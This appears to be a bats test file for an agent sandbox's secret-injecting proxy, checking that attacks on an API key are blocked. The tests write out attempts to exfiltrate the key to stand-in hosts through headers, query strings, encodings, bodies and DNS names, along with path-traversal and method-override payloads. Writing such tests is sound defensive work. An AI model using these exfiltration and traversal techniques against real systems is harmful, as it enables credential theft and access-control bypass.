# shared-proc-in-turn: the value must not come in
# no-namespaces-in-turn: nor there
# Attacks of a hostile client or server on the value of a secret. Each has its
# allowed twin.
UNJUDGED=1
load helpers
load internet
load secrets
load attack/attack

@test "attack: the value is in no file and no process that the box can read" {
	local planted=planted-0123456789abcdefghijklmnop
	agentbox_split run --secret OPENAI_API_KEY --env PLANTED="$planted" -- sh -c '
		sleep 100 &
		curl -sS -o answer -w "%{http_code}\n" https://api.openai.com/x -H "Authorization: Bearer $OPENAI_API_KEY"
		'"$(scan)"'; '"$(scan "$planted")"'; kill $!'
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = 200 ]
	[ "${lines[1]}" = clean ]
	# What the box has is found.
	[[ "$output" == *"/environ"*"memory of "* ]]
	hidden
	origin_saw "$KEY"
}

@test "attack: the request must name the host that the tunnel, the hello and the certificate name" {
	box_python --secret OPENAI_API_KEY --allow keys.test <<-END
	$tls
	say("good", status(opened("api.openai.com"), head()))
	say("port", status(opened("api.openai.com"), head(host="api.openai.com:443")))
	say("host", status(opened("api.openai.com"), head(host="keys.test")))
	say("other port", status(opened("api.openai.com"), head(host="api.openai.com:8443")))
	say("absolute", status(opened("api.openai.com"), head("https://keys.test/x")))
	say("two hosts", status(opened("api.openai.com"), head(more="Host: keys.test\r\n")))
	say("no host", status(opened("api.openai.com"), "GET / HTTP/1.1\r\nAuthorization: Bearer %s\r\n\r\n" % key))
	sock = opened("api.openai.com")
	say("first", status(sock, head()))
	say("kept, other", status(sock, head(host="keys.test")))
	for name, way in (("keys.test", "connect"), ("keys.test", "direct")):
	    try:
	        say("hello", status(opened("api.openai.com", name, way=way), head()))
	    except OSError as error:
	        say("hello", "refused")
	say("direct", status(opened("api.openai.com", way="direct"), head()))
	END
	[ "$status" -eq 0 ]
	expect <<-END
	good: 200
	port: 200
	host: 403
	other port: 403
	absolute: 400
	two hosts: 400
	no host: 400
	first: 200
	kept, other: 403
	hello: refused
	hello: refused
	direct: 200
	END
	[ "$(origin_requests | wc -l)" -eq 4 ]
	hidden
}

@test "attack: a placeholder on its way elsewhere is a tripwire" {
	export OTHER_TOKEN=OtherRealValue0123456789abcdef
	config '{ "secrets": { "OTHER_TOKEN": { "hosts": ["keys.test"] } } }'
	box_python --secret OPENAI_API_KEY --allow api.openai.com --allow origin.test \
		--allow '*.leak.test' <<-END
	$tls
	import urllib.parse
	plain = "GET http://%s%s HTTP/1.1\r\nHost: %s\r\n%s\r\n"
	def forms():
	    yield "as it is", key
	    yield "percent", "".join("%%%02x" % ord(c) for c in key)
	    yield "base64", base64.b64encode(b"a:" + key.encode()).decode()
	say("twin", status(to_proxy(), plain % ("origin.test", "/x", "origin.test", "")))
	for name, form in forms():
	    say(name, status(to_proxy(), plain % ("origin.test", "/x", "origin.test", "X: %s\r\n" % form)))
	    say(name, status(to_proxy(), plain % ("origin.test", "/x?q=" + form, "origin.test", "")))
	say("its own host, in clear", status(to_proxy(), plain % ("api.openai.com", "/x", "api.openai.com", "Authorization: Bearer %s\r\n" % key)))
	say("directly", status(socket.create_connection(("origin.test", 80)), "GET / HTTP/1.1\r\nHost: origin.test\r\nX: %s\r\n\r\n" % key))
	say("looked into, another's", status(opened("keys.test"), head(host="keys.test")))
	say("its own", status(opened("keys.test"), head(host="keys.test").replace(key, os.environ["OTHER_TOKEN"])))
	say("connect", ask("CONNECT origin.test:443 HTTP/1.1\r\nHost: origin.test:443\r\nX: %s\r\n\r\n" % key, method="CONNECT")[0].status)
	name = key.replace("_", "-")
	try:
	    socket.getaddrinfo(name[:40] + "." + name[40:] + ".leak.test", 80)
	    say("name", "resolved")
	except OSError as error:
	    say("name", word(error))
	END
	[ "$status" -eq 0 ]
	expect <<-END
	twin: 200
	as it is: 403
	as it is: 403
	percent: 403
	percent: 403
	base64: 403
	base64: 403
	its own host, in clear: 403
	directly: 403
	looked into, another's: 403
	its own: 200
	connect: 403
	name: no name
	END
	[ "$(origin_requests | wc -l)" -eq 2 ]
	[ -z "$(dns_asked | grep leak.test)" ]
	[ "$(audit 'select(.kind == "violation") | .rule' | sort -u)" = secret-tripwire ]
	[[ "$stderr" == *"the request has a placeholder of another host's secret (OPENAI_API_KEY)"* ]]
	hidden
	hidden "$OTHER_TOKEN"
}

@test "attack: a placeholder that was replaced is denied everywhere, also at its own host" {
	local old

	config '{ "secrets": { "OPENAI_API_KEY": { "onTripwire": "stop", "also": ["body"] } } }'
	old=$(launch run -- sh -c 'echo $OPENAI_API_KEY')
	[ -n "$old" ]
	box_python --env OLD="$old" --allow origin.test <<-END
	$tls
	say("the same", key == os.environ["OLD"])
	say("its own host", status(opened("api.openai.com"), head()))
	END
	expect <<-END
	the same: True
	its own host: 200
	END
	agentbox secrets rotate OPENAI_API_KEY
	[ "$status" -eq 0 ]
	box_python --env OLD="$old" --allow origin.test <<-END
	$tls
	old = os.environ["OLD"]
	say("the same", key == old)
	post = "POST /x HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: %d\r\n\r\n%s"
	say("the new one", status(opened("api.openai.com"), head()))
	say("in the body", status(opened("api.openai.com"), post % (len(key), key)))
	say("the old one", status(opened("api.openai.com"), head().replace(key, old)))
	say("both", status(opened("api.openai.com"), head(more="X: %s\r\n" % old)))
	say("as a login", status(opened("api.openai.com"), head(login=False, more="Authorization: Basic %s\r\n" %
	    base64.b64encode(b"me:" + old.encode()).decode())))
	say("without its prefix", status(opened("api.openai.com"), head(path="/x?q=" + old[3:])))
	say("in a body", status(opened("api.openai.com"), post % (len(old), old)))
	say("the new one again", status(opened("api.openai.com"), head()))
	END
	[ "$status" -eq 0 ]
	expect <<-END
	the same: False
	the new one: 200
	in the body: 200
	the old one: 403
	both: 403
	as a login: 403
	without its prefix: 403
	in a body: 403
	the new one again: 200
	END
	[ "$(audit 'select(.kind == "violation") | .rule' | sort -u)" = secret-rotated ]
	[[ "$stderr" == *"the request has a placeholder that is no longer valid (OPENAI_API_KEY)"* ]]
	agentbox why last
	[[ "$output" == *"the user replaced it (agentbox secrets rotate)"* ]]
	# To another host it is a tripwire like every other.
	agentbox_split run --env OLD="$old" --allow origin.test -- sh -c '
		curl -sS -o /dev/null http://origin.test/ -H "X: $OLD"; sleep 50'
	[ "$status" -eq 125 ]
	[[ "$stderr" == *"the placeholder of OPENAI_API_KEY was about to be sent to another host"* ]]
	hidden
}

@test "attack: a tripwire that stops the run" {
	config '{ "secrets": { "OPENAI_API_KEY": { "onTripwire": "stop" } } }'
	agentbox_split run --allow origin.test -- sh -c '
		curl -sS -o /dev/null https://api.openai.com/x -H "Authorization: Bearer $OPENAI_API_KEY"
		echo before
		curl -sS -o /dev/null http://origin.test/ -H "X: $OPENAI_API_KEY"
		sleep 50
		echo after'
	[ "$status" -eq 125 ]
	[ "$output" = before ]
	[[ "$stderr" == *OPENAI_API_KEY* ]]
}

@test "attack: a placeholder to its own host over plain HTTP is told as that" {
	local stops

	for stops in refuse stop; do
		config '{ "secrets": { "OPENAI_API_KEY": { "onTripwire": "'$stops'" } } }'
		agentbox_split run --allow api.openai.com -- sh -c '
			curl -sS -o /dev/null https://api.openai.com/x -H "Authorization: Bearer $OPENAI_API_KEY" -w "%{http_code}\n"
			curl -sS http://api.openai.com/x -H "Authorization: Bearer $OPENAI_API_KEY" -w "%{http_code}\n"
			curl -sS http://api.openai.com/x -d "key=$OPENAI_API_KEY" -o /dev/null -w "%{http_code}\n"'
		[ "$(head -n 1 <<<"$output")" = 200 ]
		[[ "$(audit 'select(.kind == "violation") | .reason' | head -n 1)" == *"over plain HTTP"*"(OPENAI_API_KEY)" ]]
		[[ "$stderr" == *"plain HTTP"* ]]
		[[ "$stderr$output" != *"another host"* ]]
		[ "$(audit 'select(.kind == "violation") | .rule' | sort -u)" = secret-tripwire ]
		if [ "$stops" = stop ]; then
			[ "$status" -eq 125 ]
			[[ "$stderr" == *"the placeholder of OPENAI_API_KEY was about to be sent over plain HTTP"* ]]
		else
			[ "$(audit 'select(.kind == "violation") | .reason' | grep -c "over plain HTTP")" = 2 ]
		fi
		hidden
		rm -rf "$AGENTBOX_STATE"
	done
}

@test "attack: a tripwire in a body is that of its secret" {
	export OTHER_TOKEN=OtherRealValue0123456789abcdef
	config '{ "secrets": { "OTHER_TOKEN": { "hosts": ["keys.test"], "onTripwire": "stop" },
		"OPENAI_API_KEY": { "also": ["body"] } } }'
	local early

	for early in False True; do
		box_python <<-END
		$tls
		other = os.environ["OTHER_TOKEN"]
		def post(text):
		    sock = opened("api.openai.com")
		    sock.sendall(head("/early" if $early else "/x", method="POST", more="Content-Length: %d\r\n" % len(text)).encode())
		    if $early:
		        while not sock.recv(1000).endswith(b"early\n"):
		            pass
		        sock.sendall(text.encode())
		        return outcome(lambda: sock.recv(1000))
		    return status(sock, text)
		say("good", post(key))
		say("foreign", post(other))
		time.sleep(50)
		END
		[ "$status" -eq 125 ]
		[[ "$output" == good:* ]]
		[[ "$stderr" == *"the placeholder of OTHER_TOKEN was about to be sent to another host"* ]]
		[ "$(audit 'select(.kind == "violation") | .rule, .secret')" = secret-tripwire$'\n'OTHER_TOKEN ]
		! since_mark origin | grep -qF "$OTHER_TOKEN" || false
		rm -rf "$AGENTBOX_STATE"
	done
}

@test "attack: a server that says the value back, whole, cut and encoded" {
	box_python --secret OPENAI_API_KEY <<-END
	$tls
	for size in (1, 2, 5, 16, 45, 1000):
	    answer = ask(head("/split/%d" % size), opened("api.openai.com"))[0]
	    say(size, answer.body == b"token=" + key.encode() + b";\n" and answer.get("x-token") == key)
	answer = ask(head("/encoded"), opened("api.openai.com"))[0]
	print(answer.body.decode(), end="")
	lines = answer.body.decode().split("\n")
	say("plain", lines[0] == key and lines[1] == "x" + key + "y")
	for i in range(3):
	    say("base64", base64.b64decode(lines[2 + i]).decode("latin-1")[i + 3:-3] == key[3:-3])
	say("gzip", status(opened("api.openai.com"), head("/gzip")))
	answer = ask(head("/x", more="Range: bytes=0-3\r\nAccept-Encoding: gzip\r\n"), opened("api.openai.com"))[0]
	say("range", b"range" in answer.body.lower() or b"gzip" in answer.body)
	say("identity", b"identity" in answer.body)
	END
	[ "$status" -eq 0 ]
	[ "$(grep -c ': True$' <<<"$output")" -eq 11 ]
	[[ "$output" == *"gzip: 502"*"range: False"* ]]
	# In no spelling that is found.
	printf %s "$output" | python3 -c '
import base64, sys
key, text = sys.argv[1].encode(), sys.stdin.buffer.read()
for i in range(3):
    core = base64.b64encode(b"x" * i + key)[4:-8]
    assert core not in text, core
assert key not in text' "$KEY"
	hidden
}

@test "attack: a server that says the value back, in every place of an answer" {
	box_python --secret OPENAI_API_KEY <<-END
	$tls
	good = "HTTP/1.1 200 OK\r\n"
	answers = {
	    "reason": "HTTP/1.1 200 {}\r\nContent-Length: 0\r\n\r\n",
	    "name": good + "X-{}: 1\r\nContent-Length: 0\r\n\r\n",
	    "chunk": good + "Transfer-Encoding: chunked\r\n\r\n2;x={}\r\nhi\r\n0;{}\r\nT: {}\r\n\r\n",
	    "hints": "HTTP/1.1 103 {}\r\nLink: {}\r\n\r\n" + good + "Content-Length: 0\r\n\r\n",
	    "second": good + "Content-Length: 2\r\n\r\nhi" + good + "Content-Length: 1\r\nX: {}\r\n\r\n{}",
	    "behind": good + "Content-Length: 0\r\n\r\n{}",
	    "to the end": good + "\r\n{}{}{}",
	    "more to come": good + "Content-Length: 99999999\r\n\r\n{}",
	    "cookie": good + "Set-Cookie: a={}\r\nLocation: //x/{}?{}\r\nContent-Length: 0\r\n\r\n",
	    "parts": "HTTP/1.1 206 P\r\nContent-Type: multipart/byteranges; boundary=x\r\n\r\n--x\r\n\r\n{}\r\n--x--",
	    "same": "HTTP/1.1 304 N\r\nETag: {}\r\n\r\n{}",
	    "version": "HTTP/9.9 {}\r\n\r\n",
	    "field": good + "A{}\r\n\r\n",
	    "coding": good + "Transfer-Encoding: {}\r\n\r\n",
	    "length": good + "Content-Length: {}\r\n\r\n",
	    "size": good + "Transfer-Encoding: chunked\r\n\r\n{}\r\n",
	    "switch": "HTTP/1.1 101 {}\r\nUpgrade: {}\r\nConnection: upgrade\r\n\r\n{}",
	}
	seen = b""
	for name, text in answers.items():
	    for size in (100000, 1, 7, 33):
	        seen += whole(opened("api.openai.com"), said(text, size))
	    seen += whole(opened("api.openai.com"), said(text, 3, method="HEAD"))
	    seen += whole(opened("api.openai.com"), said(text, 3, method="TRACE"))
	print(seen.decode("latin-1"))
	say("covered", seen.count(key.encode()) > 40)
	END
	[ "$status" -eq 0 ]
	[[ "$output" == *"covered: True" ]]
	hidden
}

@test "attack: a value of many bytes comes back in escapes" {
	export OPENAI_API_KEY
	OPENAI_API_KEY=$KEY$(printf 'aB3%.0s' $(seq 4000))
	box_python --secret OPENAI_API_KEY <<-END
	$tls
	answer = ask(head("/escaped"), opened("api.openai.com"))[0]
	say("length", len(answer.body) - 6 * len(key))
	say("value", b"\\u0052\\u0065\\u0061\\u006c" in answer.body)
	END
	[ "$status" -eq 0 ]
	expect <<-END
	length: 3
	value: False
	END
}

@test "attack: a websocket's messages and its end come through, the value does not" {
	box_python --secret OPENAI_API_KEY <<-END
	$tls
	upgraded = "HTTP/1.1 101 S\r\nUpgrade: WebSocket\r\nConnection: Upgrade\r\n\r\n"
	more = "Upgrade: websocket\r\nConnection: Upgrade\r\n"
	first = key[:1]
	# What may be the begin of a value, at the end of a message.
	for size in (1, 100000):
	    frames = "\x81\x03%s%s%s\x82\x7e\0\x01%%\x81\x7f\0\0\0\0\0\0\0\x02x%s" % (3 * (first,) + (first,))
	    got = whole(opened("api.openai.com"), said(upgraded + frames, size, "/stay", more=more), frames[-4:].encode("latin-1"))
	    say("messages", got.endswith(frames.encode("latin-1")))
	got = whole(opened("api.openai.com"), said(upgraded + "\x81\x31{}\x81\x05ha", more=more))
	say("end", got.endswith(b"\x81\x31" + key.encode() + b"\x81\x05ha"))
	END
	[ "$status" -eq 0 ]
	expect <<-END
	messages: True
	messages: True
	end: True
	END
	hidden
}

@test "attack: trailers carry nothing" {
	box_python --secret OPENAI_API_KEY <<-END
	$tls
	body = head("/x", method="POST", more="Transfer-Encoding: chunked\r\nTrailer: X-T\r\n") + "2\r\nhi\r\n0\r\nX-T: %s\r\n\r\n" % key
	answer = ask(body, opened("api.openai.com"))[0]
	say("post", answer.status)
	END
	[ "$status" -eq 0 ]
	[ "$output" = "post: 200" ]
	[ "$(since_mark origin | grep -oF "$KEY" | wc -l)" -eq 1 ]
}

@test "attack: another host gets what the box has, and no more" {
	box_python --secret OPENAI_API_KEY --allow keys.test --allow allowed.test <<-END
	$tls
	answer = ask(head("/redirect?https://keys.test/stolen"), opened("api.openai.com"))[0]
	say("redirect", answer.get("location"))
	loose = ssl.create_default_context()
	loose.check_hostname, loose.verify_mode = False, ssl.CERT_NONE
	sock = loose.wrap_socket(connect_to("keys.test", 443)[1], server_hostname="keys.test")
	say("tunnel", status(sock, head("/stolen", host="keys.test")))
	END
	[ "$status" -eq 0 ]
	expect <<-END
	redirect: https://keys.test/stolen
	tunnel: 200
	END
	# A tunnel that nobody looks into: a placeholder is all that it carries.
	[ "$(since_mark origin | jq -r .head | grep -c "^GET /stolen ")" -eq 1 ]
	! since_mark origin | jq -r 'select(.head // "" | startswith("GET /stolen ")) | .head' | grep -qF "$KEY" || false
	agentbox_split run --secret OPENAI_API_KEY --allow keys.test -- curl -sS -L --location-trusted \
		-o /dev/null -H 'Authorization: Bearer x' 'https://api.openai.com/redirect?https://keys.test/'
	# Its certificate is not ours, and the box does not know who made it.
	[ "$status" -eq 60 ]
}

@test "attack: methods and paths, in every spelling" {
	config '{ "network": { "allow": ["api.github.com", "origin.test", "other-keys.test"], "http": [
		{ "host": "api.github.com", "methods": ["GET", "HEAD"], "paths": ["/repos/*"] },
		{ "host": "api.github.com", "methods": ["POST"], "paths": ["/repos/me/*/issues"] },
		{ "host": "origin.test", "paths": ["/open/*"] } ] } }'
	box_python <<-END
	$tls
	def get(path, method="GET"):
	    return status(opened("api.github.com"), head(path, "api.github.com", method=method))
	for path in ("/repos/a/b", "/repos/a/../b", "/repos//a", "/%72epos/a", "/repos/a?x=/../../..",
	             "/", "/user", "/repos/../user", "/repos/%2e%2e/user", "/repos/.%2E/user",
	             "/repos/a%2f..%2f..%2fuser", "/repos/..%5cuser", "/repos/%00", "/repos/%", "/repos/%252e%252e/user",
	             "//user", "/repos/..;/user", "/repos/./../../user",
	             "/repos/..%E0%80%AFuser", "/repos/%e0%80%ae./user", "/repos/..%09/user", "/repos/..%20/user", "/repos/%C3%A9%20a"):
	    say(path, get(path))
	say("DELETE", get("/repos/a", "DELETE"))
	say("POST", get("/repos/me/x/issues", "POST"))
	say("POST", get("/repos/you/x/issues", "POST"))
	for name in ("X-HTTP-Method-Override", "x_http_method_override", "X-HTTP-Method", "X-Method-Override",
	             "X-Original-URL", "X-Rewrite-URL", "X-Original-Method"):
	    say(name, status(opened("api.github.com"), head("/repos/a", "api.github.com", "%s: DELETE\r\n" % name)))
	# A name that nobody has heard of, with a value that means something; and values that do not.
	for field in ("X-Verb: delete", "X_Of_Tomorrow_Method: PURGE", "Destination: /user", "X-Go: https://api.github.com/user",
	              "X-Rewrite-URL: user", "x_orig_uri: user",
	              "X-GitHub-Api-Version: 2022-11-28", "X-Security: on", "X-Parts: a/user", "X-Mode: PUTTING", "Referer: https://a.test/user",
	              "Origin: https://a.test", "HTTP-Referer: https://a.test/", "Access-Control-Request-Method: DELETE"):
	    say(field, status(opened("api.github.com"), head("/repos/a", "api.github.com", field + "\r\n")))
	say("clear", forward("origin.test", path="/open/1"))
	say("clear", forward("origin.test", path="/open/../status/200"))
	say("clear", forward("origin.test", path="/status/200"))
	say("tunnel", status(connect_to("origin.test", 80)[1], "GET /status/200 HTTP/1.1\r\nHost: origin.test\r\n\r\n"))
	say("tunnel", status(connect_to("origin.test", 80)[1], "GET /open/%32 HTTP/1.1\r\nHost: origin.test\r\n\r\n"))
	say("other port", outcome(lambda: connect_to("origin.test", 22)[0].status))
	END
	[ "$status" -eq 0 ]
	expect <<-END
	/repos/a/b: 200
	/repos/a/../b: 200
	/repos//a: 200
	/%72epos/a: 200
	/repos/a?x=/../../..: 200
	/: 403
	/user: 403
	/repos/../user: 403
	/repos/%2e%2e/user: 403
	/repos/.%2E/user: 403
	/repos/a%2f..%2f..%2fuser: 400
	/repos/..%5cuser: 400
	/repos/%00: 400
	/repos/%: 400
	/repos/%252e%252e/user: 400
	//user: 403
	/repos/..;/user: 400
	/repos/./../../user: 400
	/repos/..%E0%80%AFuser: 400
	/repos/%e0%80%ae./user: 400
	/repos/..%09/user: 400
	/repos/..%20/user: 400
	/repos/%C3%A9%20a: 200
	DELETE: 403
	POST: 200
	POST: 403
	X-HTTP-Method-Override: 400
	x_http_method_override: 400
	X-HTTP-Method: 400
	X-Method-Override: 400
	X-Original-URL: 400
	X-Rewrite-URL: 400
	X-Original-Method: 400
	X-Verb: delete: 400
	X_Of_Tomorrow_Method: PURGE: 400
	Destination: /user: 400
	X-Go: https://api.github.com/user: 400
	X-Rewrite-URL: user: 400
	x_orig_uri: user: 400
	X-GitHub-Api-Version: 2022-11-28: 200
	X-Security: on: 200
	X-Parts: a/user: 200
	X-Mode: PUTTING: 200
	Referer: https://a.test/user: 200
	Origin: https://a.test: 200
	HTTP-Referer: https://a.test/: 200
	Access-Control-Request-Method: DELETE: 200
	clear: 200
	clear: 403
	clear: 403
	tunnel: 403
	tunnel: 200
	other port: 502
	END
	# Sent on in the form that was judged.
	origin_requests | grep -qF 'GET /repos/b HTTP/1.1'
	origin_requests | grep -qF 'GET /repos/a HTTP/1.1'
	origin_requests | grep -qF 'GET /open/2 HTTP/1.1'
	! origin_requests | grep -qF '..%2f' || false
	[ "$(audit 'select(.rule == "network.http") | .path' | head -n 1)" = / ]
	# The user sees which field it was.
	[[ "$(audit '.error // empty')" == *"the header field Destination could override its method or path"* ]]
}

@test "attack: a host that is looked into is not reached by its address, nor in another tongue" {
	box_python --secret OPENAI_API_KEY --allow 203.0.113.80 --allow allowed.test <<-END
	$tls
	say("by name", status(opened("api.openai.com"), head()))
	try:
	    say("by address", status(opened("203.0.113.80", "api.openai.com"), head()))
	except OSError as error:
	    say("by address", "refused")
	say("other", direct("api.openai.com", 443, b"SSH-2.0-x\r\n"))
	say("clear", status(connect_to("api.openai.com", 443)[1], "GET / HTTP/1.1\r\nHost: api.openai.com\r\n\r\n"))
	END
	[ "$status" -eq 0 ]
	expect <<-END
	by name: 200
	by address: refused
	other: reset
	clear: 502
	END
	cat >client.js <<-'END'
	const http2 = require("http2")
	const ask = (url, next) => {
		const session = http2.connect(url, { rejectUnauthorized: false })
		session.on("error", (e) => { console.log("failed"); next() })
		session.request({ ":path": "/" }).on("error", () => {})
			.on("response", (h) => console.log(h[":status"]))
			.on("end", () => { session.close(); next() }).resume()
	}
	ask("https://allowed.test", () => ask("https://api.openai.com", () => process.exit(0)))
	END
	agentbox_split run --secret OPENAI_API_KEY --allow allowed.test -- node client.js
	expect <<-END
	200
	failed
	END
	[[ "$stderr" == *"its server speaks only HTTP/1.1"* ]]
}

@test "attack: a server whose certificate is not good gets nothing" {
	config '{ "secrets": { "OPENAI_API_KEY": {
		"hosts": ["expired.test", "wrong.test", "stranger.test", "keys.test"] } } }'
	agentbox_split run -- sh -c '
		for host in expired wrong stranger keys; do
			curl -sS https://$host.test/x -H "Authorization: Bearer $OPENAI_API_KEY" \
				-w "\n%{http_code}\n" | grep -v sha256
		done'
	[ "$status" -eq 0 ]
	[ "$(grep -c '^502$' <<<"$output")" -eq 3 ]
	[ "$(tail -n 1 <<<"$output")" = 200 ]
	[[ "$output" == *"expired.test:443: its certificate has expired"* ]]
	[[ "$output" == *"wrong.test:443: its certificate is "*"not "*"wrong.test"* ]]
	[[ "$output" == *"stranger.test:443: its certificate is from an authority that this machine does not trust"* ]]
	[ "$(origin_requests | wc -l)" -eq 1 ]
}

@test "attack: the authority is good for its own hosts only" {
	agentbox_split run --secret OPENAI_API_KEY -- sh -c '
		openssl x509 -in "$NODE_EXTRA_CA_CERTS" -noout -ext nameConstraints,basicConstraints
		ls -l /proc/self/fd | grep -c -i key; ls "$(dirname "$NODE_EXTRA_CA_CERTS")"
		echo x >"$NODE_EXTRA_CA_CERTS"'
	[[ "$output" == *"CA:TRUE, pathlen:0"*"Permitted:"*"DNS:api.openai.com"* ]]
	[[ "$output" != *.key* ]]
	[[ "$stderr" == *"Read-only"* || "$stderr" == *"ermission denied"* ]]
}

@test "attack: a refused key is read again" {
	config '{ "secrets": { "OPENAI_API_KEY": { "from": "command",
		"command": ["sh", "-c", "cat \"$HOME/key\""] } } }'
	local new=sk-proj-NewValue0123 digest

	digest=$(printf %s "$new" | sha256sum | cut -d' ' -f1)
	echo "$KEY" >"$HOME/key"
	box_start run -- sh -c '
		until [ -e go ]; do sleep 0.02; done
		for i in $(seq 200); do
			code=$(curl -sS -o /dev/null -w "%{http_code}" "https://api.openai.com/only/$0" \
				-H "Authorization: Bearer $OPENAI_API_KEY")
			echo $code
			[ $code = 401 ] || break
			sleep 0.05
		done' "$digest"
	# The value is read before the start; then the run is there.
	wait_for 90 sh -c '[ -s "$(echo "$AGENTBOX_STATE"/live/*/audit.jsonl)" ]'
	echo "$new" >"$HOME/key"
	touch go
	box_end
	[ "$status" -eq 0 ]
	[ "$(head -n 1 "$TEST_DIR/box.out")" = 401 ]
	[ "$(tail -n 1 "$TEST_DIR/box.out")" = 200 ]
	origin_saw "Bearer $KEY"
	origin_saw "Bearer $new"
	! grep -rqF -e "$new" -e "$KEY" "$AGENTBOX_STATE" || false
}
